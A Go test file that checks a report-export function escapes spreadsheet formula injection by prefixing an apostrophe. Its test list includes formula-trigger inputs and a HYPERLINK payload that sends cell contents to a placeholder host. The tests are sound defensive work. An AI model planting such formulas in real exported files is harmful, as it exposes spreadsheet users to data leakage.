package report_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/durapay/durapay/internal/report"
	_ "github.com/durapay/durapay/tools/testseed"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for _, formula := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u00a0=1", "\ufeff=1", "\x00=1", "＝1", "＠x", `"=1`, "'=1",
		"=HYPERLINK(\"http://shop.example/\"&A1)",
	} {
		require.Equal(t, "'"+formula, report.Cell(formula))
	}
	for _, text := range []string{"", " ", "A-1001", "1=1", "1-2", "a@b", "ß", "№ 1", "\xff", "it's"} {
		require.Equal(t, text, report.Cell(text))
	}
}

// TestCellsNeverBeginAFormula holds for any text, which is kept.
func TestCellsNeverBeginAFormula(t *testing.T) {
	t.Parallel()
	text := rapid.OneOf(rapid.String(), rapid.StringMatching(`[ \t"']*[=+@-].*`))
	rapid.Check(t, func(t *rapid.T) {
		in := text.Draw(t, "text")
		got := report.Cell(in)
		require.True(t, strings.HasSuffix(got, in))
		require.NotContains(t, []string{"=", "+", "-", "@", "\t", "\r", "\n"}, (got + " ")[:1])
	})
}
